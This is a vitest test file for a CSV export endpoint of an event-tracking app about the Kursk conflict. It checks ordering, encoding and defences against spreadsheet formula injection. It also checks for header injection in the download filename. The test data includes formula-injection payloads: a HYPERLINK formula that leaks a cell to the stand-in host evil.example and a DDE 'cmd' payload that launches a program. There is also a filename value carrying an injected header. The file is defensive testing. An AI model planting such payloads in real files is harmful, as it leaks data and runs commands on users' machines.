import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertSource } from '../../apps/api/src/repositories/sources.js';
import { createEvent } from '../../apps/api/src/services/events.js';
import { createTestApp, type TestApp } from '../support/app.js';
import { ENGINES } from '../support/database.js';
import { actorNamed, CASUALTIES_ID, eventTitled, type Params, query } from './kursk-model.js';

/**
 * GET /api/export.csv: exactly the list's selection, in the list's order, as
 * RFC 4180 UTF-8, safe to open in a spreadsheet.
 */

const TAG = 'csv-test';
const ROUND_TRIP_TITLE = 'He said, "hold the line",\r\nthen left; 50% of them\nstayed';
const ROUND_TRIP_SUMMARY = 'Quotes "inside", commas, and a line\nbreak; also ’curly’ and «guillemets»';
/** Titles that a spreadsheet would run as a formula. Tab and CR are written past the schema, which trims them. */
const DANGEROUS_TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '-1-cmd', '@SUM(1+1)*cmd', '=-0.5'];
/** A plain number runs nothing in a spreadsheet: csv.ts leaves it as it is, as text or as a number. */
const PLAIN_NUMBER = /^[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?$/;
const RAW_TITLES = ['\t=1+1 tab first', '\r=1+1 carriage return first'];

/** A parsed record: every column is a string (empty for null). */
type Row = Record<string, string> & { id: string; title: string; summary: string; sources: string; claims: string; quantities: string; lat: string; lon: string; place_name: string; created_at: string };

describe.each(ENGINES)('CSV export on %s', (engine) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp(engine);
    const db = t.database.db;
    const evil = await insertSource(db, { name: '@Evil source', kind: 'social_media', country: null, homepage: null, reliability: 'E', partyToConflict: false, notes: null });
    const base = {
      kind: 'other',
      startDate: '2023-06-01',
      tags: [TAG],
      claims: [{ sourceId: evil.id, origin: 'csv test', stance: 'asserts', publishedAt: '2023-06-02', quote: '=cmd quote' }],
    };
    for (const title of [...DANGEROUS_TITLES, '-0.5']) await createEvent(db, { ...base, title, summary: '+summary' }, { userId: null });
    for (const title of RAW_TITLES) {
      const created = await createEvent(db, { ...base, title: 'placeholder' }, { userId: null });
      await db.updateTable('events').set({ title }).where('id', '=', created.id).execute();
    }
    await createEvent(
      db,
      { ...base, title: ROUND_TRIP_TITLE, summary: ROUND_TRIP_SUMMARY, lat: -12.25, lon: -0.5, geoPrecision: 'exact', placeName: 'Negative place' },
      { userId: null },
    );
  });
  afterAll(() => t?.close());

  const download = async (p: Params) => {
    const res = await t.get(`/api/export.csv?${query(p)}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = new Uint8Array(await res.arrayBuffer());
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
    const rows: Row[] = parse(text, { columns: true, record_delimiter: '\r\n', relax_quotes: false });
    return { res, bytes, text, rows };
  };
  const listIds = async (p: Params) =>
    (await t.json<{ items: { id: string }[]; nextCursor: string | null }>(`/api/events?${query(p, { limit: '500' })}`)).items.map((e) => e.id);

  const FILTER_SETS: Params[] = [
    {},
    { kind: 'statement' },
    { tag: TAG },
    { from: '2024-12-09', to: '2024-12-16', excludeParties: 'true' },
    { actor: actorNamed("Korean People's Army").id, minReliability: 'B' },
    { bbox: '-1,-13,0,0' },
    { q: 'Peskov' },
    { status: 'contested,corroborated', stance: 'asserts' },
  ];

  it.each(FILTER_SETS.map((p) => [query(p) || 'no filter', p] as const))('%s: the same ids in the same order as the list', async (_label, p) => {
    const { rows } = await download(p);
    const ids = await listIds(p);
    expect(ids.length).toBeGreaterThan(0);
    expect(rows.map((r) => r.id)).toEqual(ids);
  });

  it('an empty selection is the header row alone', async () => {
    const { text, rows } = await download({ kind: 'strike' });
    expect(rows).toEqual([]);
    expect(text).toMatch(/^id,kind,title,summary,start_date,end_date,[a-z0-9_,]+\r\n$/);
    expect(text.split('\r\n')).toHaveLength(2);
  });

  it('records end in CRLF, and no bare LF or CR appears outside quoted fields', async () => {
    const { text, rows } = await download({ tag: 'dprk-in-russia' });
    expect(rows.length).toBeGreaterThan(1);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(rows.length + 2);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('UTF-8: curly quotes, ellipses and no-break spaces of the dataset survive byte for byte', async () => {
    const { bytes, rows } = await download({});
    const contains = (s: string) => Buffer.from(bytes).includes(Buffer.from(s, 'utf8'));
    const ryder = '“We do assess that North Korean soldiers have engaged in combat in Kursk … we do have indications';
    expect(contains(ryder)).toBe(true);
    expect(contains('Russia’s Kursk region near the border')).toBe(true);
    expect(contains('The\u00a0Kyiv Independent\u00a0reported')).toBe(true);
    const casualties = rows.find((r) => r.id === CASUALTIES_ID)!;
    expect(casualties.claims).toContain(ryder);
    expect(casualties.quantities).toContain('casualties of DPRK forces 200–999 “hundreds”');
  });

  it('cells with quotes, commas and line breaks round-trip through a CSV parser', async () => {
    const { rows } = await download({ tag: TAG });
    const row = rows.find((r) => r.title === ROUND_TRIP_TITLE);
    expect(row).toBeDefined();
    expect(row!.summary).toBe(ROUND_TRIP_SUMMARY);
  });

  it('cells that would start a formula are neutralised with an apostrophe', async () => {
    const { rows } = await download({ tag: TAG });
    const titles = rows.map((r) => r.title);
    for (const title of [...DANGEROUS_TITLES, ...RAW_TITLES]) expect(titles).toContain(`'${title}`);
    const hyperlink = rows.find((r) => r.title.includes('HYPERLINK'))!;
    expect(hyperlink.summary).toBe("'+summary");
    expect(hyperlink.sources).toBe("'@Evil source");
    expect(hyperlink.claims.startsWith("'@Evil source [E6]")).toBe(true);
    expect(hyperlink.claims).toContain('“=cmd quote”');
  });

  it('no cell of any export starts a formula, yet negative numbers stay numbers', async () => {
    for (const p of [{}, { tag: TAG }] as Params[]) {
      const { rows } = await download(p);
      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) {
          if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${column} of ${row.id}`).toMatch(PLAIN_NUMBER);
        }
      }
    }
    const { rows } = await download({ tag: TAG });
    const located = rows.find((r) => r.place_name === 'Negative place')!;
    expect(located.lat).toBe('-12.25');
    expect(located.lon).toBe('-0.5');
    expect(Number(located.lon)).toBe(-0.5);
    // …and so does a text cell that is a plain number; a sum is neutralised.
    expect(rows.map((r) => r.title)).toContain('-0.5');
    expect(rows.map((r) => r.title)).toContain("'-2+3");
  });

  it('a row carries the event as the detail tells it', async () => {
    const { rows } = await download({ q: 'Peskov' });
    const peskov = eventTitled('Kremlin declines');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      id: peskov.id,
      kind: 'statement',
      title: peskov.title,
      start_date: '2024-12-16',
      end_date: '',
      status: 'single_source',
      tags: 'casualties; official-statement; no-comment',
      claim_count: '1',
      sources: 'Kremlin',
      version: '1',
    });
    // Instants as ISO 8601 UTC, the same instant the detail gives.
    const detail = await t.json<{ createdAt: string; updatedAt: string }>(`/api/events/${peskov.id}`);
    expect(rows[0]!.created_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/);
    expect(Date.parse(rows[0]!.created_at)).toBe(Date.parse(detail.createdAt));
    expect(Date.parse(rows[0]!.updated_at!)).toBe(Date.parse(detail.updatedAt));
  });

  it('content-disposition names a download that says what is in it, with nothing unsafe in the name', async () => {
    const plain = (await download({})).res.headers.get('content-disposition');
    expect(plain).toMatch(/^attachment; filename="claimline-events-\d{4}-\d{2}-\d{2}\.csv"$/);
    const kind = (await download({ kind: 'engagement' })).res.headers.get('content-disposition');
    expect(kind).toMatch(/^attachment; filename="claimline-events-\d{4}-\d{2}-\d{2}-kind-engagement\.csv"$/);
    const nasty = (await download({ q: 'say "hi"; filename=x.exe\r\n' })).res.headers.get('content-disposition')!;
    const name = /^attachment; filename="([^"]*)"$/.exec(nasty)?.[1];
    expect(name).toMatch(/^claimline-events-[A-Za-z0-9._-]+\.csv$/);
  });

  it('a bad filter answers 400 problem+json, not a broken download', async () => {
    const res = await t.get('/api/export.csv?kind=nope');
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  });
});
